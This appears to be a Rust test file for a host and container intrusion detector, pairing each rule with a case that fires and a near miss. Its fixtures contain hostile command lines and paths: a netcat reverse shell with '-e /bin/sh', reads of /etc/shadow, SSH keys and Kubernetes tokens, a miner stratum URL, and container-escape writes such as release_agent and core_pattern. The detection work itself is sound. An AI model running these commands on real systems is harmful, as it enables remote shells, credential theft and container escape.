//! Each built-in rule: one case that fires and a near miss that does not.

use bulwark_core::{EventKind, ExecVia, FdKind, SocketInfo, SocketProtocol};

use super::*;
use crate::proctable::ProcTable;
use crate::testutil::{connect, event, exec, open};

fn fired(ev: &Event) -> Vec<&'static str> {
    fired_with(ev, None, None)
}

fn fired_with(ev: &Event, in_image: Option<bool>, table: Option<&ProcTable>) -> Vec<&'static str> {
    let mut own = ProcTable::new(64);
    own.observe(ev);
    let table = table.unwrap_or(&own);
    let ctx = Context {
        process: table.get(ev.process.tgid),
        exe_in_image: in_image,
    };
    detect(ev, &ctx).into_iter().map(|f| f.rule.id).collect()
}

fn with_stdio(mut ev: Event, io: [FdKind; 3]) -> Event {
    if let EventKind::Exec { stdio, .. } = &mut ev.kind {
        *stdio = Some(io);
    }
    ev
}

#[test]
fn reverse_shell_socket_on_stdin_fires_but_pipe_does_not() {
    let sh = exec(10, 1, "/bin/busybox", "/bin/sh", &["sh", "-i"]);
    let sock = [FdKind::Socket, FdKind::Socket, FdKind::Socket];
    assert_eq!(fired(&with_stdio(sh.clone(), sock)), ["reverse-shell"]);
    let pipe = [FdKind::Pipe, FdKind::Pipe, FdKind::CharDevice];
    assert!(fired(&with_stdio(sh.clone(), pipe)).is_empty());
    // A server with a socket on stdin (inetd style) is not a shell.
    let srv = exec(11, 1, "/usr/sbin/httpd", "/usr/sbin/httpd", &["httpd"]);
    assert!(fired(&with_stdio(srv, sock)).is_empty());
}

#[test]
fn netcat_with_exec_flag_fires_and_plain_netcat_does_not() {
    let nc = exec(
        10,
        1,
        "/bin/busybox",
        "/bin/nc",
        &["nc", "10.0.0.1", "4242", "-e", "/bin/sh"],
    );
    assert_eq!(fired(&nc), ["reverse-shell"]);
    let plain = exec(
        10,
        1,
        "/bin/busybox",
        "/bin/nc",
        &["nc", "-z", "10.0.0.1", "80"],
    );
    assert!(fired(&plain).is_empty());
}

#[test]
fn shell_connecting_out_fires_but_not_to_loopback() {
    let mut table = ProcTable::new(64);
    table.observe(&exec(10, 1, "/bin/bash", "/bin/bash", &["bash", "-i"]));
    let out = connect(10, "203.0.113.9:4444");
    let ids = fired_with(&out, None, Some(&table));
    assert!(ids.contains(&"reverse-shell"), "{ids:?}");
    assert!(fired_with(&connect(10, "127.0.0.1:8080"), None, Some(&table)).is_empty());
}

#[test]
fn exec_from_tmp_and_dev_shm_fires_including_scripts() {
    assert_eq!(
        fired(&exec(10, 1, "/dev/shm/x", "/dev/shm/x", &["x"])),
        ["exec-from-tmp"]
    );
    let script = exec(10, 1, "/bin/busybox", "/bin/sh", &["sh", "/tmp/evil.sh"]);
    assert_eq!(fired(&script), ["exec-from-tmp"]);
    let inline = exec(10, 1, "/bin/busybox", "/bin/sh", &["sh", "-c", "ls /tmp/x"]);
    assert!(fired(&inline).is_empty());
    assert!(
        fired(&exec(
            10,
            1,
            "/usr/bin/tmpwatch",
            "/usr/bin/tmpwatch",
            &["tmpwatch"]
        ))
        .is_empty()
    );
}

#[test]
fn memfd_exec_fires() {
    let mut ev = exec(10, 1, "/memfd:payload (deleted)", "/proc/self/fd/3", &["x"]);
    if let EventKind::Exec { via, .. } = &mut ev.kind {
        *via = ExecVia::Memfd;
    }
    assert_eq!(fired(&ev), ["fileless-exec"]);
}

#[test]
fn drift_fires_only_when_the_image_is_known_not_to_have_the_binary() {
    let ev = exec(
        10,
        1,
        "/usr/local/bin/dropped",
        "/usr/local/bin/dropped",
        &["dropped"],
    );
    assert_eq!(fired_with(&ev, Some(false), None), ["container-drift"]);
    assert!(fired_with(&ev, Some(true), None).is_empty());
    assert!(fired_with(&ev, None, None).is_empty());
}

#[test]
fn writes_below_system_dirs_fire_and_reads_do_not() {
    assert_eq!(
        fired(&open(10, "/usr/bin/evil", false, true)),
        ["write-below-system-dir"]
    );
    assert_eq!(
        fired(&open(10, "/etc/cron.d/x", false, true)),
        ["write-below-system-dir"]
    );
    assert!(fired(&open(10, "/etc/passwd", true, false)).is_empty());
    assert!(fired(&open(10, "/usrdata/x", false, true)).is_empty());
    assert!(fired(&open(10, "/var/log/app.log", false, true)).is_empty());
}

#[test]
fn credential_reads_fire_with_their_technique_including_traversal() {
    let ctx_ids = |path: &str| {
        let ev = open(10, path, true, false);
        let table = ProcTable::new(4);
        detect(
            &ev,
            &Context {
                process: table.get(10),
                exe_in_image: None,
            },
        )
        .into_iter()
        .map(|f| (f.rule.id, f.mitre))
        .collect::<Vec<_>>()
    };
    assert_eq!(
        ctx_ids("/etc/../etc/../etc/shadow"),
        [("credential-read", &["T1003.008"][..])]
    );
    let token = "/var/run/secrets/kubernetes.io/serviceaccount/..2026_01_01/token";
    assert_eq!(ctx_ids(token)[0].1, ["T1528", "T1552.001"]);
    assert_eq!(ctx_ids("/root/.ssh/id_ed25519")[0].1, ["T1552.004"]);
    assert!(ctx_ids("/root/.ssh/id_ed25519.pub").is_empty());
    assert!(ctx_ids("/etc/passwd").is_empty());
}

#[test]
fn package_managers_fire_including_busybox_style_names() {
    assert_eq!(
        fired(&exec(
            10,
            1,
            "/usr/bin/apt-get",
            "/usr/bin/apt-get",
            &["apt-get", "install", "nmap"]
        )),
        ["package-manager"]
    );
    assert_eq!(
        fired(&exec(10, 1, "/usr/bin/pip3.11", "/usr/bin/pip3", &["pip3"])),
        ["package-manager"]
    );
    assert!(fired(&exec(10, 1, "/usr/bin/aptly", "/usr/bin/aptly", &["aptly"])).is_empty());
}

#[test]
fn ptrace_of_another_process_fires_but_traceme_does_not() {
    let attach = event(
        10,
        1,
        EventKind::Ptrace {
            target_pid: 42,
            request: 16,
            result: 0,
        },
    );
    assert_eq!(fired(&attach), ["ptrace-other-process"]);
    let traceme = event(
        10,
        1,
        EventKind::Ptrace {
            target_pid: 0,
            request: 0,
            result: 0,
        },
    );
    assert!(fired(&traceme).is_empty());
    let peek = event(
        10,
        1,
        EventKind::Ptrace {
            target_pid: 42,
            request: 2,
            result: 0,
        },
    );
    assert!(fired(&peek).is_empty());
}

#[test]
fn miners_fire_on_stratum_urls_names_and_pool_ports() {
    let url = exec(
        10,
        1,
        "/usr/bin/x",
        "/usr/bin/x",
        &["x", "-o", "stratum+tcp://pool.example:3333"],
    );
    assert_eq!(fired(&url), ["crypto-miner"]);
    assert_eq!(
        fired(&exec(10, 1, "/opt/xmrig", "/opt/xmrig", &["xmrig"])),
        ["crypto-miner"]
    );
    assert_eq!(fired(&connect(10, "198.51.100.7:14444")), ["crypto-miner"]);
    assert!(fired(&connect(10, "198.51.100.7:8080")).is_empty());
}

#[test]
fn metadata_endpoint_fires_for_v4_v6_and_mapped_addresses() {
    assert_eq!(
        fired(&connect(10, "169.254.169.254:80")),
        ["cloud-metadata"]
    );
    assert_eq!(
        fired(&connect(10, "[fd00:ec2::254]:80")),
        ["cloud-metadata"]
    );
    assert_eq!(
        fired(&connect(10, "[::ffff:169.254.169.254]:80")),
        ["cloud-metadata"]
    );
    assert!(fired(&connect(10, "169.254.169.253:53")).is_empty());
}

#[test]
fn kernel_module_load_and_tools_fire() {
    let load = event(
        10,
        1,
        EventKind::ModuleLoad {
            name: "rootkit".into(),
            result: -1,
        },
    );
    assert_eq!(fired(&load), ["kernel-module-load"]);
    assert_eq!(
        fired(&exec(
            10,
            1,
            "/bin/busybox",
            "/sbin/insmod",
            &["insmod", "x.ko"]
        )),
        ["kernel-module-load"]
    );
}

#[test]
fn escape_attempts_fire() {
    assert_eq!(
        fired(&open(
            10,
            "/sys/fs/cgroup/rdma/x/release_agent",
            false,
            true
        )),
        ["container-escape"]
    );
    assert_eq!(
        fired(&open(10, "/proc/sys/kernel/core_pattern", false, true)),
        ["container-escape"]
    );
    let mount = |source: &str, fs: &str| {
        event(
            10,
            1,
            EventKind::Mount {
                source: source.into(),
                target: "/mnt".into(),
                fs_type: fs.into(),
                flags: 0,
                result: -1,
            },
        )
    };
    assert_eq!(fired(&mount("/dev/vda1", "ext4")), ["container-escape"]);
    assert_eq!(fired(&mount("cgroup", "cgroup")), ["container-escape"]);
    assert!(fired(&mount("tmpfs", "tmpfs")).is_empty());
    let nsenter = exec(
        10,
        1,
        "/usr/bin/nsenter",
        "/usr/bin/nsenter",
        &["nsenter", "-t", "1", "-m", "sh"],
    );
    assert_eq!(fired(&nsenter), ["container-escape"]);
}

#[test]
fn unix_socket_connect_fires_nothing() {
    let ev = event(
        10,
        1,
        EventKind::Connect {
            socket: SocketInfo {
                protocol: SocketProtocol::Unix,
                local: None,
                remote: None,
                path: Some("/run/x.sock".into()),
            },
            result: 0,
        },
    );
    assert!(fired(&ev).is_empty());
}
